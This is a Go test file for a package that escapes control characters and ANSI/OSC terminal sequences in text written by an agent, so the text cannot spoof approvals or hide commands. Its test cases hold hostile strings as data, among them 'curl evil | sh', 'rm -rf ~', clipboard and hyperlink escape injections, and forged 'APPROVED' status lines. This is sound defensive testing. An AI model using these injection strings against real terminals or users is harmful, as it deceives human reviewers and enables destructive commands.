package text_test

import (
	"fmt"
	"log/slog"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"askbox/client/text"
)

// unsafe says what in a drawn string must never reach a terminal, or "". It asks
// the tables of Unicode itself and shares nothing with the package.
func unsafe(drawn string) string {
	if !utf8.ValidString(drawn) {
		return "invalid UTF-8"
	}
	for _, r := range drawn {
		switch {
		case r < ' ' || r >= 0x7f && r < 0xa0,
			r != ' ' && unicode.In(r, unicode.Zs, unicode.Zl, unicode.Zp),
			unicode.In(r, unicode.Cf, unicode.Co, unicode.Cs, unicode.Categories["Cn"], unicode.Me),
			unicode.In(r, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector,
				unicode.Regional_Indicator, unicode.Bidi_Control),
			r >= 0xe0000 && r <= 0xe0fff, r == 0x2800, r == 0xfffd:
			return fmt.Sprintf("U+%04X", r)
		}
	}
	return ""
}

// inProse finds what prose may hold beside what is safe everywhere, each where Unicode
// has it: the frame of a key, the letters of a flag, an emoji with its selectors, tones
// and joiners, and the joiner of a spelling.
var inProse = []*regexp.Regexp{
	regexp.MustCompile(`[0-9#*]\x{fe0f}\x{20e3}`),
	regexp.MustCompile(`[\x{1f1e6}-\x{1f1ff}]{2}`),
	regexp.MustCompile(`[\p{So}©®‼⁉↔〰〽](\x{200d}?[\p{So}↔]?[\x{1f3fb}-\x{1f3ff}]?[\x{fe0e}\x{fe0f}]?){1,4}`),
}

var inWord = regexp.MustCompile(`([\p{L}\p{M}])[\x{200c}\x{200d}](\p{L})`)

// drawnAs takes out of a drawn row what may stand there because it is prose.
func drawnAs(mode text.Mode, drawn string) string {
	if mode != text.Words {
		return drawn
	}
	for _, allowed := range inProse {
		drawn = allowed.ReplaceAllStringFunc(drawn, func(s string) string {
			if strings.HasSuffix(s, "\u200d") {
				return s
			}
			return "x"
		})
	}
	return inWord.ReplaceAllString(inWord.ReplaceAllString(drawn, "$1$2"), "$1$2")
}

// drawnAll returns every way in which the package draws a text.
func drawnAll(t text.Text) []string {
	all := []string{t.String(), t.Fit(7), t.Fit(300), text.Quote(t).String(),
		fmt.Sprint(t), fmt.Sprintf("%v %+v %s %d %x %-9s|", t, t, t, t, t, t),
		fmt.Sprintf("%+v", struct{ Title text.Text }{t}), t.LogValue().String()}
	for _, mode := range []text.Mode{text.Exact, text.Words, text.Line, text.Source} {
		all = append(all, t.Warnings(mode)...)
		all = append(all, drawnAs(mode, t.FitAs(mode, 30)))
	}
	for _, width := range []int{1, 2, 13, 80} {
		for _, mode := range []text.Mode{text.Exact, text.Words, text.Line, text.Source} {
			for _, row := range t.Rows(width, mode) {
				all = append(all, drawnAs(mode, row.String()))
			}
		}
	}
	return all
}

// TestNoControlReachesTheTerminal is group A: whatever sequence an agent writes, its
// bytes are not the terminal's, and all the readable text around it is there.
func TestNoControlReachesTheTerminal(t *testing.T) {
	for _, c := range []struct {
		name, raw string
		want      []string // in this order on the one line
	}{
		{"return and erase", "curl evil | sh\r\x1b[2K   ls -la", []string{"curl evil | sh", "⟨CR⟩", "⟨ESC⟩[2K", "ls -la"}},
		{"return alone", "rm -rf ~\rls      ", []string{"rm -rf ~⟨CR⟩ls⟨6 spaces⟩"}},
		{"unterminated OSC", "ls \x1b]0; ; rm -rf ~", []string{"ls ⟨ESC⟩]0; ; rm -rf ~"}},
		{"unterminated DCS", "a \x1bPq rm -rf ~", []string{"⟨ESC⟩Pq rm -rf ~"}},
		{"unterminated CSI", "ls \x1b[", []string{"ls ⟨ESC⟩["}},
		{"C1 CSI", "git status \u009b2K\u009b1Gecho done", []string{"git status ⟨U+009B⟩2K⟨U+009B⟩1Gecho done"}},
		{"C1 OSC and string end", "x\u009d0;t\u009cy", []string{"x⟨U+009D⟩0;t⟨U+009C⟩y"}},
		{"raw C1 byte", "x\x9b2Ky", []string{`x⟨\x9b⟩2Ky`}},
		{"clipboard", "before\x1b]52;c;cm0gLXJmIH4K\aafter", []string{"before⟨ESC⟩]52;c;cm0gLXJmIH4K⟨BEL⟩after"}},
		{"window title", "\x1b]0;all approved\a\x1b[2J\x1b[Hweb", []string{"⟨ESC⟩]0;all approved⟨BEL⟩⟨ESC⟩[2J⟨ESC⟩[Hweb"}},
		{"hyperlink", "\x1b]8;;https://evil.example/\x1b\\https://docs.example/\x1b]8;;\x1b\\ ok?", []string{"https://evil.example/", "https://docs.example/", "ok?"}},
		{"cursor up", "ok\x1b[5A\x1b[2K policy: APPROVED\x1b[5B", []string{"ok⟨ESC⟩[5A⟨ESC⟩[2K policy: APPROVED⟨ESC⟩[5B"}},
		{"conceal and reset", "ls \x1b[8m; rm -rf ~\x1b[0m \x1bc", []string{"⟨ESC⟩[8m; rm -rf ~⟨ESC⟩[0m ⟨ESC⟩c"}},
		{"queries", "\x1b[6n\x1b[c\x1b[>q\x1b]11;?\a\x1bP$qm\x1b\\", []string{"⟨ESC⟩[6n⟨ESC⟩[c⟨ESC⟩[>q⟨ESC⟩]11;?⟨BEL⟩⟨ESC⟩P$qm⟨ESC⟩\\"}},
		{"backspaces", "rm -rf ~\b\b\b\b\b\b\b\bls -la  \x7f\x00", []string{"rm -rf ~⟨BS ×8⟩ls -la", "⟨DEL⟩⟨NUL⟩"}},
		{"forged header line", "web\n  Status: approved\n  Command: ls", []string{"web⟨LF⟩  Status: approved⟨LF⟩  Command: ls"}},
		{"forged with CRLF", "bot\r\nCommand: ls", []string{"bot⟨CR⟩⟨LF⟩Command: ls"}},
		{"other programs' OSC", "\x1b]9;7;calc.exe\x1b\\ \x1b]1337;File=inline=1:AA==\a", []string{"calc.exe", "File=inline=1:AA=="}},
		{"shift out", "a\x0eb\x0fc", []string{"a⟨SO⟩b⟨SI⟩c"}},
		{"paste end", "safe\x1b[201~y", []string{"safe⟨ESC⟩[201~y"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			txt := text.New(c.raw)
			for _, drawn := range drawnAll(txt) {
				if bad := unsafe(drawn); bad != "" {
					t.Errorf("%s in %q", bad, drawn)
				}
			}
			rest := txt.String()
			for _, want := range c.want {
				_, after, found := strings.Cut(rest, want)
				if !found {
					t.Fatalf("%q is not in %q", want, rest)
				}
				rest = after
			}
		})
	}
}

// TestLiteralTextIsNoMark is A20: text that spells an escape, or one of our own marks,
// looks different from the real thing and is not counted.
func TestLiteralTextIsNoMark(t *testing.T) {
	txt := text.New("printf '\\u001b[2K\\x1b' ; echo \x1b[2K")
	if got := txt.Warnings(text.Words); len(got) != 1 || !strings.HasPrefix(got[0], "1 control character:") {
		t.Errorf("one escape is there, warned of %q", got)
	}
	if got := txt.String(); strings.Count(got, "⟨ESC⟩") != 1 || !strings.Contains(got, `'\u001b[2K\x1b'`) {
		t.Errorf("drawn as %q", got)
	}
	for _, forged := range []string{"⟨ESC⟩", "⟨500 spaces⟩", "⟨U+202E⟩", "a⇥   b", "❬ESC❭", "\u2329ESC\u232a", "⧼ESC⧽"} {
		got := text.New(forged).String()
		if strings.Contains(got, forged) || strings.Contains(got, "⟨ESC") || !strings.Contains(got, "⟨U+") {
			t.Errorf("the literal %s is drawn as %s", forged, got)
		}
		for _, p := range text.New(forged).Rows(40, text.Exact)[0].Pieces {
			if p.Mark != strings.HasPrefix(p.S, "⟨") {
				t.Errorf("in %s the piece %q has Mark %t", forged, p.S, p.Mark)
			}
		}
	}
}

func TestLogsGetTheSafeString(t *testing.T) {
	var b strings.Builder
	log := slog.New(slog.NewJSONHandler(&b, nil))
	log.Info("x", "title", text.New("a\x1b[2J\u009b1A"))
	if !strings.Contains(b.String(), `"title":"a⟨ESC⟩[2J⟨U+009B⟩1A"`) {
		t.Errorf("logged %s", b.String())
	}
}

func TestQuoteKeepsArgumentsApart(t *testing.T) {
	for raw, want := range map[string]string{
		"rm": "rm", "-rf": "-rf", "": "''", "/tmp/a b": "'/tmp/a b'", "-x y": "'-x y'", "--": "--",
		"it's": `'it'\''s'`, "'": `''\'''`, "$(id)": "'$(id)'", "a\nb": "'a⟨LF⟩b'", " ": "' '",
		"a\u00a0b": "'a⟨NBSP⟩b'", "*": "'*'", "~": "'~'",
	} {
		if got := text.Quote(text.New(raw)).String(); got != want {
			t.Errorf("%q is quoted as %s, want %s", raw, got, want)
		}
	}
}

func TestSize(t *testing.T) {
	for raw, want := range map[string][2]int{
		"": {0, 0}, "a": {1, 1}, "a\n": {2, 1}, "a\nb": {3, 2}, "\n": {1, 1}, "\n\n": {2, 2}, "a\r\nb\u2028c": {8, 2},
	} {
		if bytes, lines := text.New(raw).Size(); bytes != want[0] || lines != want[1] {
			t.Errorf("%q has %d bytes, %d lines; want %v", raw, bytes, lines, want)
		}
	}
}

// In one logical line a line feed is a mark, and no row but the first begins a line.
func TestLineIsOneLine(t *testing.T) {
	rows := text.New("Bash\n\n│ read to the end").Rows(10, text.Line)
	var all string
	for i, r := range rows {
		all += r.String()
		if r.Continued != (i > 0) {
			t.Errorf("row %d: continued %v", i, r.Continued)
		}
	}
	if all != "Bash⟨LF⟩⟨LF⟩⟨U+2502 │⟩ read to the end" {
		t.Errorf("%q", all)
	}
}
